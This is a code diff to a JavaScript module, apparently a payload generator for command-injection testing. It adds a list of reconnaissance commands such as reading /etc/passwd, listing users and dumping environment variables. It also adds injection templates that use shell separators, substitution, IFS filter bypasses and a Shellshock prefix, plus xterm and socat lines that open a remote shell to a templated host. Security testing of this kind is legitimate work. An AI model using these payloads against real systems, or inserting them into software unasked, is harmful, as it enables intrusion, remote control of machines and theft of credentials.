@@ -2,7 +2,58 @@
 import { lines } from './grammar.mjs'
 
 export const SHELL = {
+  brief: [
+    'id',
+    'ls',
+    'pwd',
+    'whoami',
+    'uname -a',
+    'ls -la',
+    'ls /',
+    'cat /etc/passwd',
+    'dir',
+    'net user',
+    'tasklist',
+    'ipconfig /all',
+    'ver',
+    'env',
+    'ps aux',
+    'w',
+    'hostname',
+    'ifconfig',
+    'sleep §n§',
+    'timeout /t §n§',
+    'ping -c §n§ §host§',
+    'find / -name "*.conf"',
+    'reg query HKLM',
+    'set',
+    'printenv',
+    'netstat -an',
+    'df -h',
+    'last',
+    'id;uname -a',
+    '/usr/bin/id',
+    '/bin/ls -al',
+    'type c:\\boot.ini',
+    'echo §rnd§',
+    'nslookup §host§',
+  ],
   cmdi: lines`
+    §sep§§brief§
+    §sep§ §brief§
+    §sep§ §brief§ # §rnd§
+    §val§§sep§§brief§
+    §val§;§brief§;
+    \`§brief§\`
+    \$(§brief§)
+    |§brief§|
+    &§brief§&
+    ;§brief§\${IFS}-a
+    ;§brief§\$IFS\$9/etc/passwd
+    §sep§ java -jar §rnd§.jar §host§ §num§
+    §sep§ xterm -display §host§:1
+    §sep§ socat exec:'bash -li' tcp:§host§:§num§
+    () { §rnd§; }; §brief§
     §val§§sep§§cmd§
     §val§§sep§§cmd§
     §val§§sep§ §cmd§
